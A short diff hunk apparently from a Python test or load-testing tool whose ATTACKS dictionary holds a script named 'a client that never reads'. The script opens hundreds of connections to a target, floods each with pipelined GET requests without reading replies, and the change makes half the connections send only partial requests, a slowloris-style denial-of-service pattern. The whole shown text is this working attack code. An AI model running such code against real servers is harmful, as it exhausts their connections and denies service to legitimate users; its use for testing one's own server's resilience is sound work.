@@ -29,11 +29,12 @@ ATTACKS = {
     "a client that never reads": """
 asked = f"GET {place.path}{runs} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode() * 50
 held = []
-for _ in range(400):
+for number in range(500):
     try:
         held.append(socket.create_connection((place.hostname, place.port), 2))
         held[-1].settimeout(0.2)
-        held[-1].sendall(asked)
+        # The last ones never come to the end of a request: they are at work, and not idle.
+        held[-1].sendall(asked if number < 250 else asked[:40])
     except OSError:
         pass
 """,
